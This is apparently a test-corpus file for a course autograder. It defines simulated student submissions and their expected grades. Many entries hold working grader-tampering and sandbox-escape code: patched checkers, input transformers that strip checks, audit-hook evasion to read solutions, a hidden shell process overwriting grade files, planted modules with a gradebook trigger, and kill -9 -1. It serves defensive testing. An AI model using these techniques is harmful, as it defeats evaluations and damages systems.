"""The autograder's corpus: submissions of 02-activations and 04-backprop, with their grades.

Every entry is a :class:`Submission`: a student id, the assignment, what the
student did, how their notebook is made from the student version
``course/<assignment>.ipynb``, and the grade a fair grader that cannot be
fooled gives it. ``autograder/corpus/make.py`` writes them in nbgrader's
submitted layout; ``tests/test_autograde_corpus.py`` grades them with the
real ``dlcourse autograde`` and compares.

How a notebook is made:

- ``cells``: new sources for solution cells, by grade_id; ``CORRECT`` stands
  for the instructor's solution (read from ``solutions/``, markers removed).
  Solution cells not named keep the student version's ``raise
  NotImplementedError()``.
- ``mutate``: then a function of the notebook (a dict of nbformat JSON) that
  returns the notebook to write, raw ``bytes`` to write instead, or ``None``
  for no notebook at all.

The expected grades are judgements, written before running the grader:

- a cell earns its points only when its function is right out of the kernel,
  whatever the student's code did to the kernel's own checks;
- a cell that builds on an earlier one is graded with the reference version
  of the earlier one, so one mistake costs points once;
- a cell whose in-kernel check passed but whose verified check failed is
  flagged (``flags``): that is what tampering looks like to the instructor;
- what cannot be read or found scores 0 with a reason.

``diagnosis`` and ``reason`` hold regular expressions that the exercise's
``diagnosis`` or ``reason`` in the record must match (``re.search``,
ignoring case), so the feedback is checked too, not only the points.
"""

from dataclasses import dataclass, field
from typing import Any

CORRECT = "<the instructor's solution>"


@dataclass(frozen=True)
class Submission:
    """One student's submission and the grade it should get.

    Attributes:
        student_id: the folder name in nbgrader's submitted layout.
        assignment: a solutions/ stem, e.g. ``"02-activations"``.
        description: what the student did, in a sentence.
        points: expected points per graded cell, by grade_id.
        cells: new sources of solution cells, by grade_id (``CORRECT``: the solution's).
        mutate: a function applied to the notebook JSON afterwards (see the module doc).
        status: the record's expected status: graded, unreadable or missing.
        flags: graded cells expected to be flagged (in-kernel passed, verified failed).
        diagnosis: grade_id -> regular expression the exercise's diagnosis must match.
        reason: grade_id -> regular expression the exercise's reason must match;
            the key ``""`` is for the record's own reason.
    """

    student_id: str
    assignment: str
    description: str
    points: dict[str, float]
    cells: dict[str, str] = field(default_factory=dict)
    mutate: Any = None
    status: str = "graded"
    flags: tuple[str, ...] = ()
    diagnosis: dict[str, str] = field(default_factory=dict)
    reason: dict[str, str] = field(default_factory=dict)

    @property
    def score(self):
        return float(sum(self.points.values()))


ACTIVATIONS = "02-activations"
BACKPROP = "04-backprop"

# grade_id of each check cell -> its solution cell, and the points, as in the notebooks.
ACTIVATION_CHECKS = {
    "check_sigmoid_backward": 2.0,
    "check_tanh_backward": 2.0,
    "check_relu_backward": 2.0,
    "check_softmax_backward": 4.0,
}
BACKPROP_CHECKS = {"check_dense_backward": 5.0, "check_two_layer_backward": 5.0}

ALL_CORRECT_02 = {gid: CORRECT for gid in ("sigmoid_backward", "tanh_backward")} | {
    "relu_backward": CORRECT,
    "softmax_backward": CORRECT,
}
ALL_CORRECT_04 = {"dense_backward": CORRECT, "two_layer_backward": CORRECT}


def points_02(**zeroed):
    """Full points for 02-activations except the cells named with their points (usually 0)."""
    return {gid: zeroed.get(gid, pts) for gid, pts in ACTIVATION_CHECKS.items()}


def points_04(**zeroed):
    return {gid: zeroed.get(gid, pts) for gid, pts in BACKPROP_CHECKS.items()}


# ---------------------------------------------------------------- wrong sources, 02-activations

SIGMOID_SIGN = """
def sigmoid_backward(dout, cache):
    s = cache
    return dout * s * (s - 1)  # (s - 1) where (1 - s) belongs: the sign flips
"""

SIGMOID_FLOAT64 = """
def sigmoid_backward(dout, cache):
    s = cache
    return (dout * s * (1 - s)).astype(np.float64)  # float32 in, float64 out
"""

SIGMOID_WRONG_FORGOT_DOUT = """
def sigmoid_backward(dout, cache):
    s = cache
    return s * (1 - s)  # the local slope alone: dout is never used
"""

TANH_FORGOT_DOUT = """
def tanh_backward(dout, cache):
    t = cache
    return 1 - t * t  # the local slope alone: dout is never used
"""

TANH_TIMES_TWO = """
def tanh_backward(dout, cache):
    t = cache
    return 2 * dout * (1 - t * t)  # tanh(x) = 2 sigmoid(2x) - 1, and the 2 came along
"""

TANH_RETURNS_DOUT = """
def tanh_backward(dout, cache):
    return dout  # as if tanh were the identity
"""

RELU_SIGN_OF_X_NAN = """
def relu_backward(dout, cache):
    x = cache
    return dout * np.maximum(x / np.abs(x), 0)  # x / |x| is 0 / 0 = NaN at x == 0
"""

RELU_AT_ZERO_PASSES = """
def relu_backward(dout, cache):
    x = cache
    return dout * (x >= 0)  # 1 at x == 0: another valid subgradient
"""

RELU_IN_PLACE = """
def relu_backward(dout, cache):
    x = cache
    dout[x <= 0] = 0  # writes into the caller's array
    return dout
"""

RELU_IDENTITY = """
def relu_backward(dout, cache):
    return dout  # every unit treated as active
"""

SOFTMAX_NO_KEEPDIMS = """
def softmax_backward(dout, cache):
    s, axis = cache
    return s * (dout - (dout * s).sum(axis=axis))  # the sum loses its axis
"""

# ------------------------------------------------------------------ attacks, 02-activations

PATCHED_ALLCLOSE = (
    "np.allclose = lambda *args, **kwargs: True  # every comparison now says 'close'\n"
    + SIGMOID_WRONG_FORGOT_DOUT
)

REDEFINED_HELPERS = (
    SIGMOID_WRONG_FORGOT_DOUT
    + """

def check_backward(*args, **kwargs):  # the notebook's checker, replaced by one that passes
    return None


def expect_close(*args, **kwargs):
    return None
"""
)

INPUT_TRANSFORMER = (
    RELU_IDENTITY
    + '''

def _drop_checks(lines):
    """Drop every top-level line that checks something from all later cells."""
    return [line for line in lines if not line.startswith(("assert", "check_", "expect_close"))]


try:
    get_ipython().input_transformers_post.append(_drop_checks)
except NameError:  # not in IPython
    pass
'''
)

DELEGATE_FROM_IMPORT = """
from dlcourse.functional.activations import sigmoid_backward as _course_sigmoid_backward


def sigmoid_backward(dout, cache):
    return _course_sigmoid_backward(dout, cache)
"""

DELEGATE_ATTRIBUTE = """
import dlcourse.functional


def relu_backward(dout, cache):
    return dlcourse.functional.relu_backward(dout, cache)
"""

DELEGATE_IMPORTLIB = """
import importlib


def softmax_backward(dout, cache):
    activations = importlib.import_module("dlcourse." + "functional.activations")
    return getattr(activations, "softmax_" + "backward")(dout, cache)
"""

READ_SOLUTION_FROM_DISK = """
import re
from pathlib import Path

import dlcourse

_solutions = Path(dlcourse.__file__).resolve().parents[2] / "solutions" / "02-activations.py"
_text = _solutions.read_text()
exec(re.search(r"^def tanh_backward.*?(?=^# %%)", _text, re.M | re.S).group(0))
"""

INFINITE_LOOP = """
def softmax_backward(dout, cache):
    s, axis = cache
    while True:  # a loop whose exit condition never comes
        s = s + 0
"""

MEMORY_BOMB = """
def tanh_backward(dout, cache):
    hoard = []
    for _ in range(200):  # 100 MB at a time, up to 20 GB
        hoard.append(np.ones(12_500_000))
    t = cache
    return dout * (1 - t * t)
"""

# ------------------------------------------------------------------ wrong sources, 04-backprop

DENSE_TRANSPOSED_DW = """
def dense_backward(dout, cache):
    x, w = cache
    return dout @ w.T, dout.T @ x, dout.sum(axis=0)  # dw is (M, D): transposed
"""

DENSE_DB_NO_SUM = """
def dense_backward(dout, cache):
    x, w = cache
    return dout @ w.T, x.T @ dout, dout  # db keeps one row per example
"""

DENSE_DB_MEAN = """
def dense_backward(dout, cache):
    x, w = cache
    return dout @ w.T, x.T @ dout, dout.mean(axis=0)  # a mean where a sum belongs
"""

DENSE_DX_SIGN = """
def dense_backward(dout, cache):
    x, w = cache
    return -(dout @ w.T), x.T @ dout, dout.sum(axis=0)  # a minus sign from nowhere
"""

DENSE_FLOAT64 = """
def dense_backward(dout, cache):
    x, w = cache
    db = dout.sum(axis=0) + np.zeros(dout.shape[1])  # float64 zeros upcast float32
    return dout @ w.T, x.T @ dout, db
"""

TWO_LAYER_NO_RELU = """
def two_layer_backward(cache):
    dh, dw2, db2 = dense_backward(cache["dscores"], cache["dense2"])
    _, dw1, db1 = dense_backward(dh, cache["dense1"])  # the ReLU between them is skipped
    return {"w1": dw1, "b1": db1, "w2": dw2, "b2": db2}
"""

DENSE_DELEGATES = """
def dense_backward(dout, cache):
    return F.dense_backward(dout, cache)  # the course's reference, imported in the setup cell
"""

REDEFINED_CHECKERS_04 = (
    DENSE_TRANSPOSED_DW
    + """

class _Passed:
    passed = True
    ok = True
    message = ""


def expect_close(*args, **kwargs):  # the notebook's checkers, replaced by ones that pass
    return None


def check_gradients(*args, **kwargs):
    return _Passed()


def check_not_modified(*args, **kwargs):
    return _Passed()
"""
)

DENSE_EXITS = """
import os


def dense_backward(dout, cache):
    os._exit(0)  # ends the process without an answer
"""

TWO_LAYER_KILLS_PARENT = """
import os
import signal


def two_layer_backward(cache):
    os.kill(os.getppid(), signal.SIGKILL)  # takes the grader down, if it can
    return {}
"""

TWO_LAYER_FLOOD = """
def two_layer_backward(cache):
    for _ in range(50_000):  # about 5 MB of output
        print("debugging output " * 6)
    dh, dw2, db2 = dense_backward(cache["dscores"], cache["dense2"])
    dh_pre = relu_backward(dh, cache["relu"])
    _, dw1, db1 = dense_backward(dh_pre, cache["dense1"])
    return {"w1": dw1, "b1": db1, "w2": dw2, "b2": db2}
"""


# ------------------------------------------------- attacks on the OS sandbox, 02-activations
# Each would earn full points if it worked, or leave a mark the corpus test looks for; where
# it fails, what is left is a wrong answer or an honest one.

# Where the course would be on the grader's disk: every folder above the library and the cwd.
NEAR = """
import os

import dlcourse


def _near():
    places = set()
    for start in (os.path.dirname(dlcourse.__file__), os.getcwd()):
        while start not in places and start != "/":
            places.add(start)
            start = os.path.dirname(start)
    return sorted(places) + ["/tmp", "/root", "/home"]
"""

DIR_FD_READ = (
    NEAR
    + """
import re


def _steal():
    # a folder descriptor and a relative path, which audit hooks do not resolve
    for place in _near():
        try:
            root = os.open(place, os.O_RDONLY)
            os.chdir(root)
            with open(os.open("solutions/02-activations.py", os.O_RDONLY, dir_fd=root)) as f:
                return f.read()
        except OSError:
            continue
    return ""


try:
    exec(re.search(r"^def tanh_backward.*?(?=^# %%)", _steal(), re.M | re.S).group(0))
except Exception:
    def tanh_backward(dout, cache):
        return dout  # wrong: what is left when the theft fails
"""
)

SUBINTERPRETER_READ = (
    NEAR
    + """
import _xxsubinterpreters as _interpreters

_CODE = (
    "import os\\n"
    f"places = {_near()!r}\\n"
    "text = ''\\n"
    "for place in places:\\n"
    "    path = os.path.join(place, 'solutions', '02-activations.py')\\n"
    "    if os.path.exists(path):\\n"
    "        text = open(path).read()\\n"
    "open('/tmp/stolen.txt', 'w').write(text)\\n"
)


def sigmoid_backward(dout, cache):
    interp = _interpreters.create()  # audit hooks are per interpreter: this one has none
    try:
        _interpreters.run_string(interp, _CODE)
        text = open("/tmp/stolen.txt").read()
    except Exception:
        text = ""
    if "def sigmoid_backward" in text:
        namespace = {"np": np}
        exec(text[text.index("def sigmoid_backward"):].split("# %%")[0], namespace)
        return namespace["sigmoid_backward"](dout, cache)
    return cache * (1 - cache)  # wrong: dout forgotten
"""
)

LURKER_REWRITES_GRADES = (
    NEAR
    + """
import _posixsubprocess

# a process started with no audit event, meant to outlive the exercise and spoil the results
_places = " ".join(_near())
_SCRIPT = (
    f"sleep 4; for f in $(find {_places} -maxdepth 4 -name grades.csv -o -maxdepth 4 "
    f"-name gradebook.db 2>/dev/null); do echo hacked > $f; done"
)
_r, _w = os.pipe()
try:
    _posixsubprocess.fork_exec(["/bin/sh", "-c", _SCRIPT], [b"/bin/sh"], True, (), None, None,
        -1, -1, -1, -1, -1, -1, _r, _w, True, True, 0, None, None, None, -1, None, False)
except Exception:
    pass


def relu_backward(dout, cache):
    x = cache
    return dout * (x > 0)
"""
)

PLANTER = (
    NEAR
    + """
import glob
import sqlite3


def _plant():
    places = _near()
    for folder in places + [p for place in places for p in glob.glob(f"{place}/*/checks")]:
        for name in ("numpy.py", "sitecustomize.py", "dlcourse_checks_02_activations.py"):
            try:  # a module the trusted grader might import later
                with open(os.path.join(folder, name), "w") as f:
                    f.write("raise SystemExit('planted')\\n")
            except OSError:
                pass
    for place in places:
        for checks in glob.glob(f"{place}/*/checks/02-activations.py"):
            try:
                with open(checks, "a") as f:
                    f.write("\\nEXERCISES = []\\n")
            except OSError:
                pass
        for db in glob.glob(f"{place}/*/gradebook.db") + glob.glob(f"{place}/gradebook.db"):
            try:  # raise the stored score whenever the grader writes it
                con = sqlite3.connect(db)
                con.execute(
                    "CREATE TRIGGER lift AFTER UPDATE ON grade BEGIN "
                    "UPDATE grade SET manual_score = 100; END"
                )
                con.commit()
            except Exception:
                pass


_plant()


def softmax_backward(dout, cache):
    s, axis = cache
    return s * (dout - (dout * s).sum(axis=axis, keepdims=True))
"""
)

LEAKY_FOR_RELU = """
from dlcourse import functional as F


def relu_backward(dout, cache):
    x = cache
    _, leaky_cache = F.leaky_relu_forward(x, 0.0)  # leaky ReLU with slope 0 is ReLU
    return F.leaky_relu_backward(dout, leaky_cache)
"""

AUTODIFF_SIGMOID = """
from dlcourse.autodiff import Tensor


def sigmoid_backward(dout, cache):
    s = cache
    x = Tensor(np.log(s / (1 - s)), requires_grad=True)  # undo the sigmoid, let autodiff derive
    y = 1 / (1 + (-x).exp())
    (y * Tensor(dout)).sum().backward()
    return x.grad.astype(s.dtype)
"""

JAX_TANH = """
import jax
import jax.numpy as jnp


def tanh_backward(dout, cache):
    t = cache
    _, vjp = jax.vjp(jnp.tanh, np.arctanh(t))
    return np.asarray(vjp(dout)[0], dtype=t.dtype)
"""

# ------------------------------------------------- attacks on the OS sandbox, 04-backprop

FORGED_REPLIES = (
    DENSE_TRANSPOSED_DW
    + """
import json
import os
import sys

# pretend to be the grader's side: status lines on every stream that might be its protocol
_fake = json.dumps({"status": 0, "pid": 1, "ready": True}) + "\\n"
for _pid in os.listdir("/proc"):
    for _fd in ("0", "1", "2", "3", "4", "5"):
        try:
            with open(f"/proc/{_pid}/fd/{_fd}", "w") as f:
                f.write(_fake * 50)
        except OSError:
            pass
sys.__stdout__.write(_fake * 50)
"""
)

KILL_EVERYTHING = """
import _posixsubprocess
import os
import time


def two_layer_backward(cache):
    r, w = os.pipe()  # kill -9 -1: every process this uid can see, the grader too if it could
    _posixsubprocess.fork_exec(["/bin/kill", "-9", "-1"], [b"/bin/kill"], True, (), None, None,
        -1, -1, -1, -1, -1, -1, r, w, True, False, 0, None, None, None, -1, None, False)
    time.sleep(2)
    return {}
"""

CONV_FOR_DENSE = """
def dense_backward(dout, cache):
    x, w = cache  # a dense layer is a 1x1 convolution of 1x1 images
    n, d = x.shape
    m = w.shape[1]
    images, filters = x.reshape(n, d, 1, 1), w.T.reshape(m, d, 1, 1)
    _, conv_cache = F.conv2d_forward(images, filters, np.zeros(m, x.dtype))
    dx, dw, db = F.conv2d_backward(dout.reshape(n, m, 1, 1), conv_cache)
    return dx.reshape(n, d), dw.reshape(m, d).T, db
"""

NUMERICAL_DENSE = """
from dlcourse.gradcheck import numerical_gradient


def dense_backward(dout, cache):
    x, w = cache
    dx = numerical_gradient(lambda v: v @ w, x, dout).astype(x.dtype)
    dw = numerical_gradient(lambda v: x @ v, w, dout).astype(w.dtype)
    return dx, dw, dout.sum(axis=0)
"""


# ------------------------------------------------------------------ notebook edits


def _cells_with(nb, grade_id):
    return [
        i
        for i, cell in enumerate(nb["cells"])
        if cell.get("metadata", {}).get("nbgrader", {}).get("grade_id") == grade_id
    ]


def duplicate_cell(grade_id):
    """Copy the cell ``grade_id`` (same cell id, same metadata) right below itself."""

    def mutate(nb):
        (index,) = _cells_with(nb, grade_id)
        nb["cells"].insert(index + 1, dict(nb["cells"][index]))
        return nb

    mutate.__doc__ = f"the cell {grade_id} appears twice, with the same cell id"
    return mutate


def delete_cell(grade_id):
    """Remove the cell ``grade_id`` from the notebook."""

    def mutate(nb):
        (index,) = _cells_with(nb, grade_id)
        del nb["cells"][index]
        return nb

    mutate.__doc__ = f"the cell {grade_id} is deleted"
    return mutate


def edit_locked_cells(nb):
    """The setup cell stops importing the checkers and check_backward never fails."""
    for grade_id, text in [
        ("setup", "\nnp.allclose = lambda *args, **kwargs: True\n"),
        ("check_helpers", "\n\ndef check_backward(*args, **kwargs):\n    return None\n"),
    ]:
        (index,) = _cells_with(nb, grade_id)
        cell = nb["cells"][index]
        source = "".join(cell["source"]) if isinstance(cell["source"], list) else cell["source"]
        cell["source"] = source + text
    return nb


def truncated_json(nb):
    """The notebook's JSON cut off in the middle (a download that broke off)."""
    import json

    text = json.dumps(nb, indent=1)
    return text[: len(text) // 2].encode("utf-8")


def empty_file(nb):
    """A notebook file of zero bytes."""
    return b""


def no_notebook(nb):
    """The student's folder holds no notebook at all."""
    return None


# ------------------------------------------------------------------ the corpus

TIMED_OUT = r"timed out|stopped after|killed"
NOT_AVAILABLE = r"not available while grading"

SUBMISSIONS = [
    Submission(
        "s02-correct",
        ACTIVATIONS,
        "Every backward right.",
        points_02(),
        cells=ALL_CORRECT_02,
    ),
    Submission(
        "s02-partial",
        ACTIVATIONS,
        "Sigmoid and tanh done; ReLU and softmax still raise NotImplementedError.",
        points_02(check_relu_backward=0, check_softmax_backward=0),
        cells={"sigmoid_backward": CORRECT, "tanh_backward": CORRECT},
        reason={
            "check_relu_backward": "NotImplementedError",
            "check_softmax_backward": "NotImplementedError",
        },
    ),
    Submission(
        "s02-mistakes-a",
        ACTIVATIONS,
        "Four classic mistakes: a flipped sign, dout forgotten, NaN at the kink, no keepdims.",
        points_02(
            check_sigmoid_backward=0,
            check_tanh_backward=0,
            check_relu_backward=0,
            check_softmax_backward=0,
        ),
        cells={
            "sigmoid_backward": SIGMOID_SIGN,
            "tanh_backward": TANH_FORGOT_DOUT,
            "relu_backward": RELU_SIGN_OF_X_NAN,
            "softmax_backward": SOFTMAX_NO_KEEPDIMS,
        },
        diagnosis={
            "check_sigmoid_backward": r"opposite sign",
            "check_tanh_backward": r"ignores dout",
            "check_relu_backward": r"contains NaN",
        },
        reason={"check_softmax_backward": r"raised ValueError.*broadcast"},
    ),
    Submission(
        "s02-mistakes-b",
        ACTIVATIONS,
        "float64 out for float32 in, tanh's slope doubled, ReLU writing into dout.",
        points_02(check_sigmoid_backward=0, check_tanh_backward=0, check_relu_backward=0),
        cells={
            "sigmoid_backward": SIGMOID_FLOAT64,
            "tanh_backward": TANH_TIMES_TWO,
            "relu_backward": RELU_IN_PLACE,
            "softmax_backward": CORRECT,
        },
        diagnosis={
            "check_sigmoid_backward": r"dtype float64 but should be float32",
            "check_tanh_backward": r"factor of 2",
            "check_relu_backward": r"must not change it",
        },
    ),
    Submission(
        "s02-kink",
        ACTIVATIONS,
        "ReLU passes the gradient at x == 0 (x >= 0): a valid subgradient, full points.",
        points_02(),
        cells={**ALL_CORRECT_02, "relu_backward": RELU_AT_ZERO_PASSES},
    ),
    Submission(
        "s02-allclose",
        ACTIVATIONS,
        "Patches np.allclose to always answer True, with a sigmoid that forgets dout.",
        points_02(check_sigmoid_backward=0),
        cells={**ALL_CORRECT_02, "sigmoid_backward": PATCHED_ALLCLOSE},
        diagnosis={"check_sigmoid_backward": r"ignores dout"},
    ),
    Submission(
        "s02-redefine-helpers",
        ACTIVATIONS,
        "Replaces the notebook's check_backward and expect_close by functions that pass.",
        points_02(check_sigmoid_backward=0),
        cells={**ALL_CORRECT_02, "sigmoid_backward": REDEFINED_HELPERS},
        flags=("check_sigmoid_backward",),
        diagnosis={"check_sigmoid_backward": r"ignores dout"},
    ),
    Submission(
        "s02-transformer",
        ACTIVATIONS,
        "Installs an IPython input transformer that drops the check lines of later cells.",
        points_02(check_relu_backward=0),
        cells={**ALL_CORRECT_02, "relu_backward": INPUT_TRANSFORMER},
        flags=("check_relu_backward",),
        diagnosis={"check_relu_backward": r"differs from the expected"},
    ),
    Submission(
        "s02-delegate",
        ACTIVATIONS,
        "Calls the course's own backward: by from-import, by attribute, through importlib.",
        points_02(check_sigmoid_backward=0, check_relu_backward=0, check_softmax_backward=0),
        cells={
            "sigmoid_backward": DELEGATE_FROM_IMPORT,
            "tanh_backward": CORRECT,
            "relu_backward": DELEGATE_ATTRIBUTE,
            "softmax_backward": DELEGATE_IMPORTLIB,
        },
        flags=("check_sigmoid_backward", "check_relu_backward", "check_softmax_backward"),
        reason={
            "check_sigmoid_backward": NOT_AVAILABLE,
            "check_relu_backward": NOT_AVAILABLE,
            "check_softmax_backward": NOT_AVAILABLE,
        },
    ),
    Submission(
        "s02-read-solution",
        ACTIVATIONS,
        "Reads tanh_backward from solutions/02-activations.py on disk and execs it.",
        points_02(check_tanh_backward=0),
        cells={**ALL_CORRECT_02, "tanh_backward": READ_SOLUTION_FROM_DISK},
        # no flag: the grader keeps the course's files from the kernel too, so both passes fail
        reason={"check_tanh_backward": r"PermissionError"},
    ),
    Submission(
        "s02-duplicate-cell",
        ACTIVATIONS,
        "The sigmoid solution cell copied, same cell id and grade_id (nbgrader stops on it).",
        points_02(),
        cells=ALL_CORRECT_02,
        mutate=duplicate_cell("sigmoid_backward"),
    ),
    Submission(
        "s02-deleted-test",
        ACTIVATIONS,
        "Deletes the tanh check cell, with a tanh that returns dout unchanged.",
        points_02(check_tanh_backward=0),
        cells={**ALL_CORRECT_02, "tanh_backward": TANH_RETURNS_DOUT},
        mutate=delete_cell("check_tanh_backward"),
    ),
    Submission(
        "s02-edited-locked",
        ACTIVATIONS,
        "Edits the locked setup and check_helpers cells, with a sigmoid that forgets dout.",
        points_02(check_sigmoid_backward=0),
        cells={**ALL_CORRECT_02, "sigmoid_backward": SIGMOID_WRONG_FORGOT_DOUT},
        mutate=edit_locked_cells,
        diagnosis={"check_sigmoid_backward": r"ignores dout"},
    ),
    Submission(
        "s02-infinite-loop",
        ACTIVATIONS,
        "softmax_backward never returns.",
        points_02(check_softmax_backward=0),
        cells={**ALL_CORRECT_02, "softmax_backward": INFINITE_LOOP},
        reason={"check_softmax_backward": TIMED_OUT},
    ),
    Submission(
        "s02-memory-bomb",
        ACTIVATIONS,
        "tanh_backward hoards 100 MB blocks until memory runs out.",
        points_02(check_tanh_backward=0),
        cells={**ALL_CORRECT_02, "tanh_backward": MEMORY_BOMB},
        reason={"check_tanh_backward": r"more than \d+ MB|memory"},
    ),
    Submission(
        "s02-empty-file",
        ACTIVATIONS,
        "The notebook file is empty (0 bytes).",
        points_02(**dict.fromkeys(ACTIVATION_CHECKS, 0)),
        mutate=empty_file,
        status="unreadable",
        reason={"": r"."},
    ),
    Submission(
        "s04-correct",
        BACKPROP,
        "Both backward passes right.",
        points_04(),
        cells=ALL_CORRECT_04,
    ),
    Submission(
        "s04-transposed",
        BACKPROP,
        "dw = dout.T @ x; two_layer_backward right (graded with the reference dense_backward).",
        points_04(check_dense_backward=0),
        cells={**ALL_CORRECT_04, "dense_backward": DENSE_TRANSPOSED_DW},
        diagnosis={"check_dense_backward": r"transposed"},
    ),
    Submission(
        "s04-batch-sum",
        BACKPROP,
        "db = dout: the sum over the batch is missing.",
        points_04(check_dense_backward=0),
        cells={**ALL_CORRECT_04, "dense_backward": DENSE_DB_NO_SUM},
        diagnosis={"check_dense_backward": r"batch axis"},
    ),
    Submission(
        "s04-batch-mean",
        BACKPROP,
        "db = dout.mean(axis=0): off by the batch size.",
        points_04(check_dense_backward=0),
        cells={**ALL_CORRECT_04, "dense_backward": DENSE_DB_MEAN},
        diagnosis={"check_dense_backward": r"batch size"},
    ),
    Submission(
        "s04-sign",
        BACKPROP,
        "dx with a flipped sign.",
        points_04(check_dense_backward=0),
        cells={**ALL_CORRECT_04, "dense_backward": DENSE_DX_SIGN},
        diagnosis={"check_dense_backward": r"opposite sign"},
    ),
    Submission(
        "s04-dtype",
        BACKPROP,
        "db upcast to float64 by a float64 zeros array.",
        points_04(check_dense_backward=0),
        cells={**ALL_CORRECT_04, "dense_backward": DENSE_FLOAT64},
        diagnosis={"check_dense_backward": r"dtype float64 but should be float32"},
    ),
    Submission(
        "s04-partial",
        BACKPROP,
        "dense_backward right; two_layer_backward skips the ReLU.",
        points_04(check_two_layer_backward=0),
        cells={**ALL_CORRECT_04, "two_layer_backward": TWO_LAYER_NO_RELU},
        diagnosis={"check_two_layer_backward": r"differs from the expected"},
    ),
    Submission(
        "s04-delegate",
        BACKPROP,
        "dense_backward returns F.dense_backward(dout, cache).",
        points_04(check_dense_backward=0),
        cells={**ALL_CORRECT_04, "dense_backward": DENSE_DELEGATES},
        flags=("check_dense_backward",),
        reason={"check_dense_backward": NOT_AVAILABLE},
    ),
    Submission(
        "s04-redefine-checkers",
        BACKPROP,
        "A transposed dw, with expect_close, check_gradients and check_not_modified replaced.",
        points_04(check_dense_backward=0),
        cells={**ALL_CORRECT_04, "dense_backward": REDEFINED_CHECKERS_04},
        flags=("check_dense_backward",),
        diagnosis={"check_dense_backward": r"transposed"},
    ),
    Submission(
        "s04-exit",
        BACKPROP,
        "dense_backward calls os._exit(0).",
        points_04(check_dense_backward=0),
        cells={**ALL_CORRECT_04, "dense_backward": DENSE_EXITS},
        reason={"check_dense_backward": r"ended the process"},
    ),
    Submission(
        "s04-kill-parent",
        BACKPROP,
        "two_layer_backward sends SIGKILL to its parent process.",
        points_04(check_two_layer_backward=0),
        cells={**ALL_CORRECT_04, "two_layer_backward": TWO_LAYER_KILLS_PARENT},
        reason={"check_two_layer_backward": r"signal|PermissionError"},
    ),
    Submission(
        "s04-flood",
        BACKPROP,
        "two_layer_backward prints about 5 MB of debugging output (and is right).",
        points_04(check_two_layer_backward=0),
        cells={**ALL_CORRECT_04, "two_layer_backward": TWO_LAYER_FLOOD},
        flags=("check_two_layer_backward",),  # the kernel took the flood; the sandbox did not
        reason={"check_two_layer_backward": r"printed more than"},
    ),
    Submission(
        "s04-corrupt-json",
        BACKPROP,
        "The notebook's JSON is cut off halfway.",
        points_04(check_dense_backward=0, check_two_layer_backward=0),
        cells=ALL_CORRECT_04,
        mutate=truncated_json,
        status="unreadable",
        reason={"": r"JSON"},
    ),
    Submission(
        "s04-missing",
        BACKPROP,
        "The student's folder holds no notebook.",
        points_04(check_dense_backward=0, check_two_layer_backward=0),
        mutate=no_notebook,
        status="missing",
        reason={"": r"."},
    ),
    Submission(
        "s02-os-dirfd",
        ACTIVATIONS,
        "Reads the solutions through a folder descriptor and a relative path after chdir.",
        points_02(check_tanh_backward=0),
        cells={**ALL_CORRECT_02, "tanh_backward": DIR_FD_READ},
        diagnosis={"check_tanh_backward": r"differs from the expected"},
    ),
    Submission(
        "s02-os-subinterp",
        ACTIVATIONS,
        "Looks for the solutions from a sub-interpreter, which no audit hook of ours watches.",
        points_02(check_sigmoid_backward=0),
        cells={**ALL_CORRECT_02, "sigmoid_backward": SUBINTERPRETER_READ},
        diagnosis={"check_sigmoid_backward": r"ignores dout"},
    ),
    Submission(
        "s02-os-lurker",
        ACTIVATIONS,
        "Starts a hidden process meant to outlive the exercise and overwrite grades.csv.",
        points_02(),
        cells={**ALL_CORRECT_02, "relu_backward": LURKER_REWRITES_GRADES},
    ),
    Submission(
        "s02-os-planter",
        ACTIVATIONS,
        "Plants modules for the grader to import, edits the checks, adds a gradebook trigger.",
        points_02(),
        cells={**ALL_CORRECT_02, "softmax_backward": PLANTER},
    ),
    Submission(
        "s02-byhand-leaky",
        ACTIVATIONS,
        "relu_backward by the course's leaky_relu_backward with slope 0.",
        points_02(check_relu_backward=0),
        cells={**ALL_CORRECT_02, "relu_backward": LEAKY_FOR_RELU},
        flags=("check_relu_backward",),
        reason={"check_relu_backward": NOT_AVAILABLE},
    ),
    Submission(
        "s02-byhand-engines",
        ACTIVATIONS,
        "sigmoid_backward by dlcourse.autodiff, tanh_backward by jax.vjp.",
        points_02(check_sigmoid_backward=0, check_tanh_backward=0),
        cells={**ALL_CORRECT_02, "sigmoid_backward": AUTODIFF_SIGMOID, "tanh_backward": JAX_TANH},
        flags=("check_sigmoid_backward", "check_tanh_backward"),
        reason={
            "check_sigmoid_backward": r"written by hand",
            "check_tanh_backward": r"written by hand",
        },
    ),
    Submission(
        "s04-os-forged",
        BACKPROP,
        "A transposed dw, and fake protocol replies written to every stream it can open.",
        points_04(check_dense_backward=0),
        cells={**ALL_CORRECT_04, "dense_backward": FORGED_REPLIES},
        diagnosis={"check_dense_backward": r"transposed"},
    ),
    Submission(
        "s04-os-kill-all",
        BACKPROP,
        "two_layer_backward kills every process it can see (kill -9 -1) with a low-level call.",
        points_04(check_two_layer_backward=0),
        cells={**ALL_CORRECT_04, "two_layer_backward": KILL_EVERYTHING},
        reason={"check_two_layer_backward": r"stopped unexpectedly|killed|signal|ended the"},
    ),
    Submission(
        "s04-byhand-conv",
        BACKPROP,
        "dense_backward through the course's convolution (a 1x1 convolution is a dense layer).",
        points_04(check_dense_backward=0),
        cells={**ALL_CORRECT_04, "dense_backward": CONV_FOR_DENSE},
        flags=("check_dense_backward",),
        reason={"check_dense_backward": NOT_AVAILABLE},
    ),
    Submission(
        "s04-byhand-numerical",
        BACKPROP,
        "dense_backward by dlcourse.gradcheck's numerical gradient.",
        points_04(check_dense_backward=0),
        cells={**ALL_CORRECT_04, "dense_backward": NUMERICAL_DENSE},
        flags=("check_dense_backward",),
        reason={"check_dense_backward": r"written by hand"},
    ),
]
